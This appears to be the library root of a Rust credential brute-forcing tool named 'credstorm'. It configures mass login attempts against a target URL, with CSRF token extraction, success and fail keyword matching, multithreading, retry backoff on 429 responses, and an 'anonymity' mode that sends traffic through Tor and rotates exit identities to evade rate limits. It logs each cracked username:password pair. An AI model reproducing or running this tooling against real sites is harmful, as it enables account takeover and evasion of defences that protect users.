pub mod core;
pub mod error;
pub mod http;
pub mod utils;

use std::path::PathBuf;
use std::sync::Arc;
use std::time::Duration;

use anyhow::{anyhow, bail, Context};
use reqwest::header::{HeaderMap, HeaderName, HeaderValue, CONTENT_TYPE, USER_AGENT};
use serde::{Deserialize, Serialize};
use url::Url;

pub use crate::core::dispatcher::{AttackStats, Dispatcher, RetryQueue, WorkerContext};
pub use crate::core::engine::{prepare_pending, AttackEngine};
pub use crate::core::executor::{AttemptExecutor, AttemptOutcome};
pub use crate::core::retry::RetryTracker;
pub use crate::core::throttle::{
    self as throttle, ControlPort, NoLimitThrottle, RotatingThrottle, RotationSettings,
    StandardThrottle, Throttle, ThrottleRef,
};
pub use crate::core::tracker::{filter_unseen, PairStore, RecordFormat, SessionStore};
pub use crate::core::Attempt;
pub use crate::error::{AttemptError, ControlError};
pub use crate::http::HttpClient;
pub use crate::utils::read_lines;

pub const DEFAULT_USER_AGENT: &str = "credstorm/1.0";
pub const DEFAULT_CONTENT_TYPE: &str = "application/x-www-form-urlencoded";

/// How a response body decides whether the credential worked.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub enum ResponseMatcher {
    /// Body contains the keyword only after a successful login.
    Success(String),
    /// Body contains the keyword whenever the login is rejected.
    Fail(String),
}

impl ResponseMatcher {
    pub fn keyword(&self) -> &str {
        match self {
            ResponseMatcher::Success(k) | ResponseMatcher::Fail(k) => k,
        }
    }
}

impl Default for ResponseMatcher {
    fn default() -> Self {
        ResponseMatcher::Success(String::new())
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub enum ThrottleMode {
    #[default]
    Standard,
    NoLimit,
    Anonymity,
}

/// Anonymity-network endpoints and pacing used by the identity-rotating throttle.
#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(rename_all = "camelCase", default)]
pub struct RotationConfig {
    pub control_addr: String,
    pub socks_proxy: String,
    pub ip_check_url: String,
    pub cooldown: u64,
    pub poll_attempts: u32,
    pub poll_interval: u64,
}

impl Default for RotationConfig {
    fn default() -> Self {
        Self {
            control_addr: "127.0.0.1:9051".to_string(),
            socks_proxy: "socks5h://127.0.0.1:9050".to_string(),
            ip_check_url: "http://checkip.amazonaws.com/".to_string(),
            cooldown: 120,
            poll_attempts: 5,
            poll_interval: 30,
        }
    }
}

/// Attack configuration shared read-only by every worker.
#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(rename_all = "camelCase", default)]
pub struct AttackConfig {
    pub url: String,
    pub method: String,
    pub payload: String,
    pub headers: Vec<String>,
    pub csrf_field: Option<String>,
    pub csrf_source: Option<String>,
    pub matcher: ResponseMatcher,
    pub throttle_codes: Vec<u16>,
    pub threads: usize,
    pub retry_threads: usize,
    pub retry_limit: u32,
    pub queue_capacity: usize,
    pub threshold: u32,
    pub timeout: u64,
    pub initial_backoff: u64,
    pub proxy: Option<String>,
    pub throttle_mode: ThrottleMode,
    pub rotation: RotationConfig,
    pub state_dir: Option<PathBuf>,
}

impl Default for AttackConfig {
    fn default() -> Self {
        Self {
            url: String::new(),
            method: "POST".to_string(),
            payload: String::new(),
            headers: Vec::new(),
            csrf_field: None,
            csrf_source: None,
            matcher: ResponseMatcher::default(),
            throttle_codes: vec![429],
            threads: 10,
            retry_threads: 2,
            retry_limit: 3,
            queue_capacity: 10_000,
            threshold: 5000,
            timeout: 30,
            initial_backoff: 300,
            proxy: None,
            throttle_mode: ThrottleMode::Standard,
            rotation: RotationConfig::default(),
            state_dir: None,
        }
    }
}

impl AttackConfig {
    /// Rejects configurations that cannot drive an attack.
    pub fn validate(&self) -> anyhow::Result<()> {
        if self.url.trim().is_empty() {
            bail!("missing required target URL");
        }
        let parsed = Url::parse(&self.url).with_context(|| format!("invalid target URL '{}'", self.url))?;
        if parsed.host_str().is_none() {
            bail!("target URL '{}' has no host", self.url);
        }
        if self.payload.is_empty() {
            bail!("missing required payload template");
        }
        if self.matcher.keyword().is_empty() {
            bail!("a success or fail keyword is required");
        }
        if self.threads == 0 {
            bail!("thread count must be at least 1");
        }
        if let Some(ref field) = self.csrf_field {
            if !field.is_empty() && !self.payload.contains("^CSRF^") {
                log::warn!("CSRF field '{}' configured but payload has no ^CSRF^ placeholder", field);
            }
        }
        Ok(())
    }

    /// Fills derived settings: CSRF source falls back to the target, anonymity mode
    /// forces traffic through the SOCKS endpoint.
    pub fn apply_defaults(&mut self) {
        if self.csrf_field.as_deref().is_some_and(|f| !f.is_empty()) && self.csrf_source.is_none() {
            self.csrf_source = Some(self.url.clone());
        }
        if self.throttle_mode == ThrottleMode::Anonymity {
            self.proxy = Some(self.rotation.socks_proxy.clone());
        }
    }

    pub fn is_throttling_status(&self, status: u16) -> bool {
        self.throttle_codes.contains(&status)
    }

    pub fn csrf_field_ref(&self) -> Option<&str> {
        self.csrf_field.as_deref().filter(|f| !f.is_empty())
    }

    pub fn proxy_ref(&self) -> Option<&str> {
        self.proxy.as_deref().filter(|p| !p.is_empty())
    }

    pub fn request_timeout(&self) -> Duration {
        Duration::from_secs(self.timeout.max(1))
    }

    /// Host part of the target URL, used to name the state directory.
    pub fn target_domain(&self) -> anyhow::Result<String> {
        let parsed = Url::parse(&self.url)?;
        parsed
            .host_str()
            .map(|h| h.to_string())
            .ok_or_else(|| anyhow!("target URL '{}' has no host", self.url))
    }

    /// Default headers overlaid with the user's, matched case-insensitively.
    pub fn header_map(&self) -> anyhow::Result<HeaderMap> {
        let mut map = HeaderMap::new();
        map.insert(USER_AGENT, HeaderValue::from_static(DEFAULT_USER_AGENT));
        map.insert(CONTENT_TYPE, HeaderValue::from_static(DEFAULT_CONTENT_TYPE));

        for (key, val) in parse_custom_headers(&self.headers) {
            let name = HeaderName::from_bytes(key.as_bytes())
                .with_context(|| format!("invalid header name '{}'", key))?;
            let value = HeaderValue::from_str(&val)
                .with_context(|| format!("invalid value for header '{}'", key))?;
            map.insert(name, value);
        }
        Ok(map)
    }
}

pub fn parse_custom_headers(raw: &[String]) -> Vec<(String, String)> {
    raw.iter().filter_map(|h| {
        let mut parts = h.splitn(2, ':');
        let key = parts.next()?.trim().to_string();
        let val = parts.next()?.trim().to_string();
        if key.is_empty() { return None; }
        Some((key, val))
    }).collect()
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ProgressKind {
    Attempted,
    Error,
    Retry,
    Abandoned,
}

/// Operator-facing output of an attack run.
/// The CLI implements this with a progress bar; `LogSink` routes everything to `log`.
pub trait AttackEventSink: Send + Sync {
    fn on_log(&self, level: &str, message: &str);
    fn on_found(&self, attempt: &Attempt, status_code: u16);
    fn on_progress(&self, kind: ProgressKind);
}

pub type SinkRef = Arc<dyn AttackEventSink>;

pub struct LogSink;

impl LogSink {
    pub fn new_ref() -> SinkRef {
        Arc::new(Self)
    }
}

impl AttackEventSink for LogSink {
    fn on_log(&self, level: &str, message: &str) {
        match level {
            "error" => log::error!("{}", message),
            "warn" => log::warn!("{}", message),
            _ => log::info!("{}", message),
        }
    }

    fn on_found(&self, attempt: &Attempt, status_code: u16) {
        log::info!("valid credential [{}] {}:{}", status_code, attempt.username, attempt.password);
    }

    fn on_progress(&self, _kind: ProgressKind) {}
}
